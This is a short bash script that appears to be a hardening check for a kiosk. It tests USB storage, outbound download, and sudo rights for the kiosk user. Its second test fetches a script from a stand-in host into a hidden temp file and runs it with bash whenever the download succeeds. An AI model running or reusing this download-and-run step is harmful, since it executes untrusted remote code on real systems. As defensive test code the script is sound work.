#!/usr/bin/env bash
# Hardening verification harness.
# SECURITY TEST ONLY: the payloads below are simulated attacker actions and are
# expected to be BLOCKED by the egress rules on a hardened kiosk.
set -u
row() { printf '%-28s %s\n' "$1" "$2"; }

# T1: usb storage
if lsmod | grep -q usb_storage; then row "usb-storage" "OPEN"; else row "usb-storage" "BLOCKED"; fi

# T2: download-and-run (simulated attacker payload)
SIM_HOST="198.51.100.77"
SIM_PATH="/kiosk/probe.sh"
if curl -fsS -m 5 "http://$SIM_HOST$SIM_PATH" -o /tmp/.probe 2>/dev/null; then
  row "download-and-run" "OPEN"
  bash /tmp/.probe            # execute to confirm execution is also possible
else
  row "download-and-run" "BLOCKED"
fi

# T3: sudo for kiosk user
if sudo -l -U kiosk 2>/dev/null | grep -q ALL; then row "kiosk sudo" "OPEN"; else row "kiosk sudo" "BLOCKED"; fi
